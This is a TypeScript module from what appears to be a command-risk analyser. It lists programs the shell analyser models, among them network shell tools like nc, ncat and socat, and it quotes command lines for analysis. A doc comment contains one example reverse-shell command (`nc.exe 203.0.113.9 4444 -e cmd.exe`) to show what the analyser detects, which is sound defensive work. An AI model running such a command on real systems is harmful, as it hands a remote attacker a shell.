import { AGENT_PROGRAMS } from './shell/handlers/agents.js';

/**
 * Native programs whose behaviour the shell analyser models (package managers and installers, agent CLIs,
 * interpreters, privilege tools, network tools such as `nc`, schedulers, containers). A PowerShell or
 * batch line that starts one of them is handed to the shell analyser as one command line, so
 * `C:\tools\nc.exe 203.0.113.9 4444 -e cmd.exe` in a `.cmd` file is read like `nc … -e cmd.exe` in bash.
 * Names are lower-cased, without a directory; each host language strips or keeps `.exe` itself. Program
 * names, not runtime ids: kept as one string, with the agent CLIs from the shell analyser's own list.
 */
export const SHELL_MODELLED_PROGRAMS: readonly string[] = [
  ...'npm npx pnpm pnpx yarn bun bunx pip pip3 pipx uv uvx poetry gem cargo go choco winget scoop brew git gh bash sh zsh wsl node python python3 py deno sudo gsudo nc ncat socat ssh scp chmod crontab launchctl systemctl docker kubectl'.split(
    ' ',
  ),
  ...AGENT_PROGRAMS,
];

const NAMES = new Set(SHELL_MODELLED_PROGRAMS);

/** Whether the shell analyser models `name` (`pip3`, `python3.12` included; `curl` left to the caller). */
export function modelledByShell(name: string): boolean {
  return NAMES.has(name) || /^(?:pip|python)\d{1,2}(?:\.\d{1,2})?$/.test(name);
}

/** One command line for the shell analyser: words quoted where the shell would split or expand them. */
export function shellCommandLine(name: string, words: readonly string[]): string {
  const q = (w: string) => (/^[\w@%+=:,./-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`);
  return [name, ...words.map(q)].join(' ').slice(0, 4000);
}
